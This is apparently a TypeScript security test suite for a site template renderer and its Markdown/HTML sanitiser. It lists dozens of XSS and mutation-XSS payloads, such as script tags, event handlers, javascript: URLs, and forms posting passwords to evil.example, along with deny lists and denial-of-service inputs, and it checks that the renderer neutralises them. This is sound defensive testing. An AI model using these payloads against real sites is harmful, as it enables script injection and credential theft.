import { parseFragment } from 'parse5'
import t from 'tap'
import type { Test } from 'tap'
import { loadConfig } from '../../../kernel/index.ts'
import { buildTestApp } from '../../../testing/index.ts'
import { bindTemplate } from '../binding/index.ts'
import { SiteKit, attribute, elementsIn } from '../binding/testing.ts'
import type { RenderedPage } from '../binding/testing.ts'
import type { PageData } from '../contract.ts'
import { linkedRecords, plainText, richText } from '../markdown/index.ts'
import type { RichFormat } from '../markdown/index.ts'
import { PageTooLarge, compileTemplate, renderTemplate, scriptJson } from './index.ts'

const app = await buildTestApp({ plugins: { ...loadConfig({}).plugins, 'site-renderer': false } })
t.teardown(() => app.close())
const kit = new SiteKit(app)
const text = { type: 'string' }
const rich = (contentMediaType: string) => ({ type: 'string', contentMediaType })
await kit.type('web-page', 'WebPage', { name: text })
await kit.type('note', 'Article', {
  text,
  url: text,
  markdown: rich('text/markdown'),
  html: rich('text/html'),
  tags: { type: 'array', items: text },
  amount: { type: 'number' },
})
const page: PageData = { page: await kit.resource('web-page', await kit.create('web-page', { name: 'Page' })) }

const forbidden = new Set(
  'script iframe frame object embed applet base noscript template math foreignobject annotation-xml set animate animatetransform xmp plaintext'.split(
    ' ',
  ),
)

/** Fails if anything in a page runs, loads or sends what it should not. */
function checkHarmless(t: Test, { document, errors }: RenderedPage, name: string): void {
  const wrong: string[] = []
  for (const element of elementsIn(document)) {
    const tag = element.tagName.toLowerCase()
    if (forbidden.has(tag)) wrong.push(`<${tag}>`)
    for (const { name: attributeName, value } of element.attrs) {
      const bare = value.replace(/[\s\u0000-\u0020\u00ad\u200b-\u200f\ufeff]/g, '').toLowerCase()
      if (/^on/i.test(attributeName)) wrong.push(attributeName)
      if (
        ['srcdoc', 'formaction', 'style', 'ping', 'background', 'dynsrc', 'http-equiv', 'xlink:href'].includes(
          attributeName,
        )
      )
        wrong.push(attributeName)
      if (
        /^(?:javascript|vbscript|data(?!:image\/(?:png|jpeg|gif|webp|avif))|livescript|feed|jar|blob|filesystem):/.test(
          bare,
        )
      )
        wrong.push(`${attributeName}=${value}`)
      if (attributeName === 'action' && !/^\/(?!\/)/.test(value)) wrong.push(`action=${value}`)
      if (attributeName === 'method' && value !== 'get') wrong.push(`method=${value}`)
    }
  }
  const shown = JSON.stringify(name).replaceAll(/[^ -~]|[#\\]/g, '?') // these characters have a meaning in TAP
  t.strictSame(wrong, [], shown)
  t.strictSame(errors, [], `valid: ${shown}`)
}

const vectors = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>X</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><!--</style><img src=x onerror=alert(1)>--></annotation-xml></math>',
  '<math href="javascript:alert(1)">X</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<select><noembed></select><script>alert(1)</script></noembed>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001java\tscr\nipt\r:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="javascript\u200b:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt://%0aalert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="x" ping="https://evil.example">x</a>',
  '<area href="javascript:alert(1)">',
  '<form action="https://evil.example" method=post><input name=password></form>',
  '<form action="//evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  '<form action="/\\evil.example"><input type=image formaction=//evil src=x></form>',
  '<form action="/api/settings/roles" method="post" enctype="text/plain"><input name="x"></form>',
  '<isindex action="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<meta name="referrer" content="unsafe-url">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="import" href="/x.html"><link rel=modulepreload href=/x.js>',
  '<style>@import "https://evil.example/x.css"; p { background: url(javascript:alert(1)); x: expression(alert(1)) }</style>',
  '<style></style><script>alert(1)</script><style></style>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<p style="background:url(javascript:alert(1));width:expression(alert(1));color:red">x</p>',
  '<p style="color:red}</style><script>alert(1)</script>">x</p>',
  '<p style="behavior:url(#default#time2)" onbegin=alert(1)>x</p>',
  '<video><source onerror=alert(1)></video><video poster="javascript:alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)><head onclick=x>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<x onclick=alert(1)>x</x><custom-element is="x" onclick=alert(1)>y</custom-element>',
  '<p data-svc-at="1:1:" data-svc-slot="name" data-svc-evil="<script>">x</p>',
  '<p data-svc-fragment="</p><script>alert(1)</script>">x</p>',
  '<p data-svc-slot="onclick:name; style:name; srcdoc:name; href:name">x</p>',
  '<a data-svc-slot="onmouseover:text">x</a><script data-svc-slot="name"></script><style data-svc-slot="name">x</style>',
  '<iframe data-svc-slot="srcdoc:name"></iframe><svg data-svc-slot="onload:name"><text data-svc-slot="name">x</text></svg>',
  '<p id="a" id="b" class=\'"><script>alert(1)</script>\' title="--><script>alert(1)</script>">x</p>',
  '<!--><script>alert(1)</script>--><!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]><?php echo "<script>alert(1)</script>" ?>',
  '<table><tr><td data-svc-slot="name">x</td></tr><script>alert(1)</script></table>',
  '<table data-svc-slot="name"><tr data-svc-slot="name"></tr></table><select data-svc-slot="name"></select>',
  '<p><div data-svc-slot="name"><p></div></p></p><b><i></b></i><a><a><button><button></button>',
  '\u0000<p>\u0001\u0085\ufdd0\uffff\udbff</p>',
  '<img srcset="javascript:alert(1) 1x, /ok.png 2x, data:text/html,x 3x" src="data:image/svg+xml,<svg onload=alert(1)>">',
]

t.test('no template executes code', async t => {
  for (const vector of vectors) {
    checkHarmless(t, await kit.render(vector, page), vector)
    checkHarmless(
      t,
      await kit.render(`<!doctype html><html><head>${vector}</head><body>${vector}<p>after</p></body></html>`, page),
      `in a document: ${vector}`,
    )
    const fragments = {
      layout: `<html><body><header data-svc-fragment="header"></header><main data-svc-fragment="content"></main></body></html>`,
      header: vector,
    }
    checkHarmless(t, await kit.render('<p>x</p>', page, { compile: { fragments } }), `in a fragment: ${vector}`)
  }
})

t.test('harmless content is kept', async t => {
  const html = `<section class="a" id="b" aria-label="c"><h2>Title</h2><a href="https://example.org/?a=1&amp;b=2" target="_blank">x</a><a href="#top">y</a>
    <img src="/a.png" srcset="/a.png 1x, /b.png 2x" alt="" loading="lazy"><img src="/a.png" srcset="/c.png 1x,/d.png .5x,\n/e,f.png 300w,/g.png, /h.png 2x" alt=""><button type="button" popovertarget="menu">Menu</button><nav id="menu" popover></nav>
    <svg viewBox="0 0 10 10" fill="none"><path d="M0 0h10" stroke="currentColor"></path></svg><form action="/search"><input name="q" type="search"></form>
    <style>@property --angle { syntax: "<angle>"; inherits: false; initial-value: 0deg } html { scroll-behavior: smooth; overscroll-behavior: none }
    @media (200px<width<900px) { .\\@md\\:x { & > .behavior:hover { transition-behavior: allow-discrete } } }</style><p style="color: red; --gap: 2px; scroll-behavior: smooth">x</p><details><summary>s</summary>d</details><pre>\n\n a</pre></section>`
  const { html: out, errors, template, all } = await kit.render(html, page)
  t.strictSame([errors, template.problems], [[], []])
  for (const kept of [
    '?a=1&amp;b=2"',
    'target="_blank"',
    'srcset="/a.png 1x, /b.png 2x"',
    'srcset="/c.png 1x, /d.png .5x, /e,f.png 300w, /g.png, /h.png 2x"',
    'popovertarget="menu"',
    ' popover>',
    'viewBox="0 0 10 10"',
    'd="M0 0h10"',
    'action="/search"',
    '<pre>\n\n a',
    String.raw`syntax: "\3c angle>"`,
    '{ scroll-behavior: smooth; overscroll-behavior: none }',
    String.raw`(200px< width<900px) { .\@md\:x { & > .behavior:hover { transition-behavior: allow-discrete }`,
  ]) {
    t.ok(out.includes(kept), kept)
  }
  const style = all('style')[0]?.childNodes[0]
  t.match(
    style && 'value' in style ? style.value : '',
    /\.svc-style-1\.svc-style-1\.svc-style-1\{color: red;--gap: 2px;scroll-behavior: smooth\}/,
  )
  t.equal(template.styleHashes.length, 2)
})

t.test('a schema can say behind an anchor that a text is Markdown', async t => {
  const $defs = { formatted: { $anchor: 'formatted', ...rich('text/markdown') } }
  await kit.type('essay', 'Essay', { body: { $ref: '#formatted' } }, { $defs })
  const addressed = await kit.resource('essay', await kit.create('essay', { body: '*one*' }))
  const { html } = await kit.render('<div data-svc-entity="Essay" data-svc-slot="body">x</div>', { ...page, addressed })
  t.match(html, '<em>one</em>')
})

t.test('no data execute code', async t => {
  const html = `<html><head><title data-svc-entity="Article">x</title><meta name="description" data-svc-slot="name"></head><body><main data-svc-entity="Article">
    <p data-svc-slot="text; title:text">x</p><div data-svc-slot="markdown"></div><li data-svc-slot="html"></li><h2 data-svc-slot="html">x</h2><a data-svc-slot="url">x</a><img data-svc-slot="src:url; srcset:url; alt:text">
    <textarea data-svc-slot="text"></textarea><pre data-svc-slot="text"></pre><input data-svc-slot="value:text"><time data-svc-slot="text"></time><svg><text data-svc-slot="text">x</text></svg>
    <table><tr><td data-svc-slot="html"></td></tr></table><a href="/x"><div data-svc-slot="html"></div><section data-svc-slot="markdown"></section></a><blockquote cite="x" data-svc-slot="cite:url; text:html"></blockquote>
    <video data-svc-slot="poster:url; src:url"></video><q data-svc-slot="class:text; data-x:text">x</q><form action="/s"><input type="checkbox" data-svc-slot="text"></form><i data-svc-entity="tags" data-svc-list data-svc-slot="@value">x</i></main></body></html>`
  const hostile = [
    ...vectors.map(vector => vector.replaceAll('\u0000', '').replaceAll(/[\ud800-\udfff]/g, '')),
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    '` onmouseover=alert(1)',
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</li></ul></div><p></p></p>',
    '<a href="/x">a<a href="/y">b</a></a><li>x</li><dd>y</dd><tr><td>z</td></tr>',
    '<a href="javascript:alert(1)">x</a><a href="/ok">y</a>',
    '[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)> [y](/ok "t")',
    '[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/png;base64,AAAA)',
    '[a]: javascript:alert(1)\n\n[a] [x](java&#115;cript:alert(1)) [x](&#x6A;avascript:alert(1))',
    '```js"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    '\n\nleading',
    '\u202e\u2028\u0085\ud7ff',
    '<p><p><h1><h2>x</h1><b><p></b></p><table><td>x<table><b>',
    '-->\n<!-- ]]> \\u003c/script>',
  ]
  for (const value of hostile) {
    const id = await kit.create('note', { text: value, url: value, markdown: value, html: value, tags: [value, value] })
    const out = await kit.render(html, { ...page, addressed: await kit.resource('note', id) })
    checkHarmless(t, out, `in data: ${value}`)
    const shown = out.all('p').find(element => attribute(element, 'title') !== undefined)
    const clean = value
      .replaceAll(/[\u0001-\u0008\u000b\u000e-\u001f\u007f-\u009f\ufdd0-\ufdef\ufffe\uffff]/g, '')
      .replaceAll(/\r\n?/g, '\n')
    t.equal(attribute(shown, 'title'), clean, 'exactly as written')
    const json = `<script type="application/ld+json">${scriptJson(JSON.stringify({ value }))}</script>`
    const read = await kit.render('<p>x</p>', page, { render: { head: json } })
    const script = read.all('script')[0]?.childNodes[0]
    t.strictSame([read.errors, script && 'value' in script ? JSON.parse(script.value) : undefined], [[], { value }])
  }
})

t.test('only the operator can allow scripts', async t => {
  const html =
    '<script>run()</script><script src="/a.js"></script><p onclick="go()">x</p><a href="javascript:x()">y</a>'
  const open = await kit.render(html, page, { compile: { allowScripts: true } })
  t.match(open.html, /<script>run\(\)<\/script><script src="\/a.js"><\/script><p onclick="go\(\)">/)
  t.notMatch(open.html, /javascript:/)
  t.equal(open.template.scriptHashes.length, 3)
  t.ok(open.template.scriptHashes.includes("'unsafe-hashes'"))
  t.strictSame((await kit.render(html, page)).template.scriptHashes, [])
})

t.test('templates that expand excessively stay small', async t => {
  for (let i = 0; i < 120; i++) await kit.create('note', { text: `n${i}` })
  const nested = (depth: number): string =>
    depth === 0
      ? '<b data-svc-slot="text">x</b>'
      : `<div data-svc-entity="Article" data-svc-list="1000">${nested(depth - 1)}</div>`
  const bombs: Record<string, string> = {
    'nested lists': nested(6),
    'many elements': '<p>'.repeat(100_000),
    'deep elements': '<div>'.repeat(50_000),
    'deep formatting': '<b><p>'.repeat(20_000),
    'distinct formatting': Array.from({ length: 20_000 }, (_, i) => `<b id=${i}><p>`).join(''),
    'deep drawing': `<svg>${'<g>'.repeat(50_000)}`,
    'many attributes': `<p ${Array.from({ length: 100_000 }, (_, i) => `a${i}`).join(' ')}>x</p>`,
    'quoted attributes': `<p x=">" ${Array.from({ length: 100_000 }, (_, i) => `<a${i}`).join(' ')}>x</p>`,
    'a huge attribute': `<p title="${'x'.repeat(900_000)}">x</p>`,
    'too many bytes': 'x'.repeat(2_000_000),
    'many slots': '<b data-svc-slot="a.b.c.d.e.f.g.h">x</b>'.repeat(15_000),
    'many slots in lists': `<div data-svc-entity="Article" data-svc-list="100"><div data-svc-entity="Article" data-svc-list="100">${'<b data-svc-slot="text">x</b>'.repeat(2000)}</div></div>`,
    'many entities': '<p data-svc-entity="Article" data-svc-list="100"><i data-svc-slot="text"></i></p>'.repeat(5000),
    'many questions': Array.from(
      { length: 190 },
      (_, i) => `<p data-svc-entity="Article" data-svc-list="100" data-svc-filter="q=n${i}"></p>`,
    ).join(''),
    'a long slot': `<p data-svc-slot="${'a.'.repeat(100_000)}b">x</p>`,
    'many parts': `<p data-svc-slot="${'title:a;'.repeat(50_000)}">x</p>`,
    'long styles': `<p style="${'color:red;'.repeat(50_000)}">x</p><style>${'@import '.repeat(50_000)}</style>`,
    comments: `<!--${'<!--'.repeat(200_000)}`,
    tables: '<table><tr><td>'.repeat(10_000),
    'open brackets': '<'.repeat(500_000),
    ends: '</p>'.repeat(200_000),
    entities: '&amp'.repeat(200_000),
  }
  for (const [name, html] of Object.entries(bombs)) {
    const before = process.cpuUsage()
    const template = compileTemplate(html, { allowScripts: false })
    const binding = await bindTemplate(template, page, kit.reader, performance.now() + 10_000)
    let bytes = 0
    try {
      bytes = Buffer.byteLength(renderTemplate(template, binding))
    } catch (error) {
      t.type(error, PageTooLarge)
    }
    const { user, system } = process.cpuUsage(before)
    t.ok(bytes <= 4 * 1024 * 1024, `${name}: ${bytes} bytes`)
    t.ok(user + system < 3_000_000, `${name}: ${Math.round((user + system) / 1000)} ms of CPU`)
    t.ok(template.problems.length <= 201 && binding.problems.length <= 201)
  }
})

t.test('large values and large numbers of values are limited', async t => {
  const large = 'x'.repeat(900_000)
  const data = { large, mail: 'a@b.c', many: Array.from({ length: 50_000 }, (_, i) => `t${i}`), deep: [[[[[[1]]]]]] }
  const own: PageData = { page: { ...page.page, data } }
  const bombs: Record<string, string> = {
    texts: '<b data-svc-slot="large">x</b>'.repeat(5000),
    attributes: '<b data-svc-slot="title:large; class:large; data-a:large">x</b>'.repeat(5000),
    'many values': '<b data-svc-slot="many; title:many">x</b>'.repeat(1000),
    'many items': '<i data-svc-entity="many" data-svc-list="100"><b data-svc-slot="@value"></b></i>'.repeat(190),
    deep: '<b data-svc-slot="deep; title:deep.deep.deep">x</b>'.repeat(1000),
    'a style of spaces': `<p style="color:${' '.repeat(400_000)}{">x</p>`,
    'many spaces': `<p data-svc-slot="${' '.repeat(400_000)}a" data-svc-sort="${' '.repeat(400_000)}" style="a${' '.repeat(400_000)}b">x</p>`,
    'a srcset of commas': `<img srcset="a${','.repeat(400_000)}b${',a'.repeat(200_000)}">`,
    'a srcset of spaces': `<img srcset="a${' '.repeat(400_000)}b, ${'a '.repeat(200_000)}" src="${' '.repeat(100_000)}x">`,
  }
  for (const [name, html] of Object.entries(bombs)) {
    const before = process.cpuUsage()
    try {
      const out = await kit.render(html, own)
      t.ok(out.html.length < 4 * 1024 * 1024, name)
    } catch (error) {
      t.type(error, PageTooLarge, name)
    }
    const { user, system } = process.cpuUsage(before)
    t.ok(user + system < 3_000_000, `${name}: ${Math.round((user + system) / 1000)} ms of CPU`)
  }
})

t.test('malformed documents become complete', async t => {
  const odd = [
    '',
    ' ',
    '<frameset><frame src=x></frameset>',
    '<html>',
    '<head>',
    '<body class="a">',
    '<!doctype html>',
    '<!-- x --><!DOCTYPE html><p>a',
    '</html><p>a',
    '<html lang="xx-invalid-language-tag-1">',
    '<table><p>x',
    '<title>a</title><title>b</title>',
  ]
  for (const html of odd) {
    const { errors, all } = await kit.render(html, page)
    t.strictSame(errors, [], JSON.stringify(html))
    t.strictSame([all('html').length, all('head').length, all('body').length], [1, 1, 1])
  }
  const twice = await kit.render(
    '<a href="/x" hidden data-svc-slot="hidden:name; href:name; aria-current:name"></a><nav><a href="/x" aria-current="page" data-svc-entity="Nothing" data-svc-slot="href:name">x</a></nav>',
    page,
  )
  t.strictSame(twice.errors, [])
})

t.test('recursive fragments end', async t => {
  const fragments = {
    layout:
      '<body><header data-svc-fragment="a"></header><main data-svc-fragment="content"></main><footer data-svc-fragment="content"></footer></body>',
    a: '<p>A</p><div data-svc-fragment="b"></div>',
    b: '<p>B</p><div data-svc-fragment="a"></div><div data-svc-fragment="layout"></div><div data-svc-fragment="content"></div><div data-svc-fragment="__proto__"></div>',
  }
  const out = await kit.render('<p>own</p><div data-svc-fragment="b"></div>', page, { compile: { fragments } })
  t.strictSame([out.texts('p'), out.errors], [['A', 'B', 'own', 'B', 'A'], []])
  t.equal(out.template.problems.filter(({ kind }) => kind === 'unknown-fragment').length, 9)
  t.match(out.template.problems[0], { fragment: 'b', line: 1, column: 9 })
})

t.test('a page with twenty entities takes less than a millisecond', async t => {
  const cards = Array.from(
    { length: 5 },
    (_, i) =>
      `<article data-svc-entity="Article" data-svc-filter="_filter[text][eq]=n${i}"><h2 data-svc-slot="text">x</h2><a href="/x" data-svc-slot="url">y</a><p>static</p></article>`,
  ).join('')
  const html = `<main>${cards}<ul><li data-svc-entity="Article" data-svc-list="15"><b data-svc-slot="text">x</b><time data-svc-slot="meta.created_at">x</time><i data-svc-slot="amount">1</i></li></ul></main>`
  const template = compileTemplate(html, { allowScripts: false })
  const binding = await bindTemplate(template, page, kit.reader)
  t.equal(binding.shown.size >= 15, true)
  for (let i = 0; i < 200; i++) renderTemplate(template, binding)
  const before = process.cpuUsage()
  const times = 500
  for (let i = 0; i < times; i++) renderTemplate(template, binding)
  const { user, system } = process.cpuUsage(before)
  const ms = (user + system) / 1000 / times
  t.comment(`${ms.toFixed(3)} ms`)
  t.ok(ms < 1, `${ms.toFixed(3)} ms of CPU`)
})

/** The HTML of a text, including its addresses. */
const html = (text: string, format: RichFormat = 'text/markdown', inLink = false): string | undefined =>
  richText(text, format, inLink)
    ?.map(part => (typeof part === 'string' ? part : `{${'path' in part ? part.path : JSON.stringify(part)}}`))
    .join('')

t.test('Markdown becomes HTML, and text without markup', async t => {
  const text =
    '# Title\n\nSome *emphasis*, `code` and [a link](/about "t").\n\n- one\n- two\n\n| a | b |\n|---|---:|\n| 1 | 2 |\n\n![picture](/p.png)\n\n```js\nif (a < b) {}\n```'
  const out = html(text) ?? ''
  for (const part of [
    '<h2>Title</h2>',
    '<em>emphasis</em>',
    '<a href="{/about}" title="t">a link</a>',
    '<li>one</li>',
    '<td class="align-right">2</td>',
    '<img src="{/p.png}" alt="picture">',
    '<code class="language-js">if (a &lt; b) {}\n</code>',
  ]) {
    t.ok(out.includes(part), part)
  }
  t.equal(
    plainText(text, 'text/markdown'),
    'Title Some emphasis, code and a link. one two a b 1 2 picture if (a < b) {}',
  )
  t.equal(html('<b>no</b> <script>x</script>'), '<p>&lt;b&gt;no&lt;/b&gt; &lt;script&gt;x&lt;/script&gt;</p>\n')
  t.equal(plainText('<p>a<b>b</b></p><p>c</p><script>x</script>', 'text/html'), 'ab c')
  t.equal(html('one\n\ntwo'), '<p>one</p>\n<p>two</p>\n')
})

t.test('elements that would close an outer element, or are not allowed there, are removed', async t => {
  t.equal(html('<li>a</li><dd>b</dd><summary>c</summary>', 'text/html'), 'abc')
  t.equal(html('<ul><li>a</li></ul><dl><dt>b</dt></dl>', 'text/html'), '<ul><li>a</li></ul><dl><dt>b</dt></dl>')
  t.equal(html('[x](/y)', 'text/markdown', true), '<p>x</p>\n')
  t.equal(html('<tr><td>x</td></tr></div></main>y', 'text/html'), 'xy')
  t.equal(html('<b>a<i>b</b>c</i> </p>d', 'text/html'), '<b>a<i>b</i></b><i>c</i> <p></p>d')
  const ruby = '<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp>字<rt>じ</rt></ruby>'
  t.equal(html(ruby, 'text/html'), ruby)
  t.equal(html('<ruby>漢<rt>かん</ruby><rt>x', 'text/html'), '<ruby>漢<rt>かん</rt></ruby><rt>x</rt>')
  t.equal(
    html('<p onclick=x style="color:red" class=a id=b data-svc-slot=name>x</p>', 'text/html'),
    '<p id="text-b">x</p>',
  )
  t.equal(
    html('[x](//other.example/y) [z](mailto:a@b.c) [r](rel)'),
    '<p><a href="//other.example/y">x</a> <a href="mailto:a@b.c">z</a> <a href="rel">r</a></p>\n',
  )
})

t.test('anchors in a text keep their links, under names of their own', async t => {
  t.equal(
    html(
      '<h2 id="a">Terms</h2><p><a href="#a">a</a> <a href="#top">b</a> <a name="old">c</a><a href="#old">d</a></p>',
      'text/html',
    ),
    '<h2 id="text-a">Terms</h2><p><a href="#text-a">a</a> <a href="#top">b</a> <a id="text-old">c</a><a href="#text-old">d</a></p>',
  )
  t.equal(
    html('<i id="ä">x</i><a href="#%C3%A4">y</a>', 'text/html'),
    '<i id="text-ä">x</i><a href="#text-%C3%A4">y</a>',
  )
  t.equal(html('<i id="a b">x</i><i id="c">y</i><i id="c">z</i>', 'text/html'), '<i>x</i><i id="text-c">y</i><i>z</i>')
})

t.test('links to records are parts of their own', async t => {
  t.equal(
    html('[one](urn:note:01AB "t") and [two](urn:isbn/x) [t](tel:+49123)'),
    '<p>{{"record":"urn:note:01AB","attributes":" title=\\"t\\""}}one{{"endOf":"urn:note:01AB"}} and <a>two</a> <a href="tel:+49123">t</a></p>\n',
  )
  t.strictSame(linkedRecords('[a](urn:note:1) <urn:note:2>', 'text/markdown'), ['urn:note:1', 'urn:note:2'])
  t.equal(html('[x](urn:note:1)', 'text/markdown', true), '<p>x</p>\n', 'no link in a link')
})

t.test('no text takes long, and the result is always well-formed', async t => {
  const size = 199_000
  const repeat = (text: string): string => text.repeat(Math.floor(size / text.length))
  const markdown = [
    '[',
    '[a](',
    '*a **a ',
    '*',
    '_a',
    '> ',
    '- ',
    '[a]: /x\n',
    '[a]',
    '![a](/b) ',
    '&amp;',
    '<a ',
    '<http://a',
    '\\',
    '\n',
    '~~a',
    '[x](/y)',
    '[a](b "',
    'a[b',
    '<!--',
    '~',
    '[a][',
    '|a|b|\n|-|-|\n',
  ].map(repeat)
  markdown.push(
    Array.from({ length: 600 }, (_, i) => '`'.repeat(i))
      .join(' ')
      .slice(0, size),
    Array.from({ length: 600 }, (_, i) => `${' '.repeat(i)}- a`)
      .join('\n')
      .slice(0, size),
  )
  const markup = [
    '<b>',
    '<p>',
    '<b><p>',
    '<a href="/x">y</a>',
    '<table><tr><td>',
    '<div>',
    '<',
    '<!--',
    '<img src=/x>',
    '&',
  ].map(repeat)
  markup.push(
    `<p ${Array.from({ length: 30_000 }, (_, i) => `a${i}`)
      .join(' ')
      .slice(0, size - 10)}>x</p>`,
    `<img src="/${repeat('a')}">`,
    Array.from({ length: 10_000 }, (_, i) => `<i title=${i}>`).join(''),
  )
  const cases = [
    ...markdown.map(text => ({ text, format: 'text/markdown' as const })),
    ...markup.map(text => ({ text, format: 'text/html' as const })),
  ]
  for (const { text, format } of cases) {
    const before = process.cpuUsage()
    const out = html(text, format)
    const { user, system } = process.cpuUsage(before)
    const name = JSON.stringify(`${format} ${text.slice(0, 20)}`).replaceAll(/[#\\]/g, '?')
    t.ok(user + system < 3_000_000, `${name}: ${Math.round((user + system) / 1000)} ms of CPU`)
    if (out === undefined) continue
    const errors: string[] = []
    parseFragment(out, { onParseError: ({ code }) => errors.push(code) })
    t.strictSame(errors, [], name)
  }
  t.equal(html('x'.repeat(300_000)), undefined)
  t.equal(plainText('x'.repeat(300_000), 'text/markdown').length, 300_000)
})
